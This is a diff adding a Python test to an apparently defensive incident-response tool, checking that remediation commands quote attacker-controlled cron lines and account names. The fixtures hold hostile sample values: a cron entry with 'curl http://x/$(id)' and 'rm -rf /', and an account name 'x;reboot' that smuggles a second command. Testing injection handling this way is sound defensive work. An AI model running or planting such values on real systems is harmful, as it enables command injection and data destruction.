@@ -223,3 +223,23 @@ def test_windows_case_check_details_make_steps():
     assert next(s for s in steps if s.action == "lock_account").commands[0] == "net user support /active:no"
     assert {s.target["path"] for s in steps if s.action == "quarantine_file"} == {
         r"C:\Users\a\Downloads\x.exe", r"C:\Users\Public\tool.exe"}
+
+
+def test_hostile_entries_are_quoted_in_the_commands():
+    """Lines, names and paths come from the attacker: the commands shown keep them single arguments."""
+    import shlex
+
+    from analysis.findings import Finding
+
+    line = "* * * * * root curl http://x/$(id)'; rm -rf / #"
+    f1 = Finding("persistence", "H2", "high", "vi", "en", "H2-suspicious-cron", None, ["E1"], [],
+                 {"path": "/etc/cron.d/a b", "lines": [{"line": 1, "text": line}], "mechanism": "cron"})
+    f2 = Finding("new_account", "H2", "medium", "vi", "en", "H2-new-account", None, ["E2"], [],
+                 {"account": "x;reboot", "uid": 0})
+    steps = remediation.build([f1, f2])
+    cron = next(s for s in steps if s.action == "remove_line")
+    grep = next(c for c in cron.commands if c.startswith("grep -vxF"))
+    first = grep.split(" > ", 1)[0]
+    assert shlex.split(first) == ["grep", "-vxF", "--", line, "/etc/cron.d/a b"]
+    acct = next(s for s in steps if s.action == "lock_account")
+    assert shlex.split(acct.commands[0]) == ["usermod", "-L", "-e", "1", "-s", "/usr/sbin/nologin", "x;reboot"]
